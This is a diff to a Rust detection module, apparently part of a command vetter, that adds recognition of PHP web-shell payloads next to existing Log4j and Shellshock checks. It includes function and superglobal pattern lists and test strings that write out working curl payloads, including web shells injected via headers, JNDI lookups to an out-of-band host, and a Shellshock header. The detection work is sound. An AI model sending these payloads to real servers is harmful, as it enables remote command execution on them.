@@ -108,6 +108,39 @@ pub const SHELLSHOCK: ExploitPayload = ExploitPayload {
     source: "https://nvd.nist.gov/vuln/detail/CVE-2014-6271 (an environment value starting with `() {` and commands after its body)",
 };
 
+/// A PHP web shell: code that runs what each request sends (`<?php
+/// system($_GET["cmd"]); ?>`), sent to a server in a header, a field or
+/// a file name, so that the server logs or stores it and then runs it
+/// (log poisoning, an upload: ppnc, session 51).
+pub const PHP_WEBSHELL: ExploitPayload = ExploitPayload {
+    what: "a PHP web shell (code that runs the commands each request sends)",
+    source: "https://attack.mitre.org/techniques/T1505/003/ (web shells); https://www.php.net/manual/en/ref.exec.php (system, exec, passthru, shell_exec, popen, proc_open) and the request superglobals ($_GET, $_POST, $_REQUEST, $_COOKIE)",
+};
+
+/// PHP's functions that run a command or code, as a web shell calls them.
+const PHP_RUNNERS: &[&str] = &[
+    "system(",
+    "exec(",
+    "passthru(",
+    "shell_exec(",
+    "popen(",
+    "proc_open(",
+    "pcntl_exec(",
+    "eval(",
+    "assert(",
+    "create_function(",
+];
+
+/// The request's values a web shell takes its command from.
+const PHP_REQUEST: &[&str] = &[
+    "$_get",
+    "$_post",
+    "$_request",
+    "$_cookie",
+    "$_server",
+    "$_files",
+];
+
 /// The payload an argument carries, if any. Log4j's nested lookups
 /// (`${lower:j}`, `${::-j}`, `${env:X:-j}`) are resolved to their last
 /// part first, as log4j would.
@@ -129,7 +162,13 @@ pub fn exploit_payload(arg: &str) -> Option<&'static ExploitPayload> {
         let before = squeezed.get(..i).and_then(|b| b.chars().last());
         matches!(before, None | Some(':' | '=' | '\'' | '"'))
     });
-    (opens_value && squeezed.contains("};")).then_some(&SHELLSHOCK)
+    if opens_value && squeezed.contains("};") {
+        return Some(&SHELLSHOCK);
+    }
+    let php = lower.contains("<?php") || lower.contains("<?=") || lower.contains("<? ");
+    (php && PHP_RUNNERS.iter().any(|r| squeezed.contains(r))
+        && PHP_REQUEST.iter().any(|q| squeezed.contains(q)))
+    .then_some(&PHP_WEBSHELL)
 }
 
 /// Whether `text` contains `needle` (lower-case ASCII), ignoring ASCII case.
@@ -248,11 +287,15 @@ pub const PAYLOAD_EXAMPLES: (&[&str], &[&str]) = (
         "curl -vvk https://vdi.example.com/portal/info.jsp -H 'Accept-Language: ${jndi:ldap://x.oastify.com:1337/test}'",
         "curl -A '${${lower:j}ndi:ldap://x.example/a}' https://app.example.com/",
         "curl -H \"User-Agent: () { :; }; /bin/bash -c 'id'\" http://10.0.0.5/cgi-bin/status",
+        "curl -X POST 'http://127.0.0.1/vuln1.php' --form 'submit=Generate pdf' --referer 'http://nowhere.com/<?php system($_GET[\"cmd\"]); ?>'",
+        "curl -A '<?php passthru($_REQUEST[c]); ?>' http://10.0.0.5/",
     ],
     &[
         "curl -H 'Accept-Language: en' https://example.com/",
         "f() { :; }; f",
         "echo \"${HOME}\"",
+        "curl -d '<?php echo phpversion(); ?>' http://localhost:8080/",
+        "php -r 'system(\"ls\");'",
     ],
 );
 
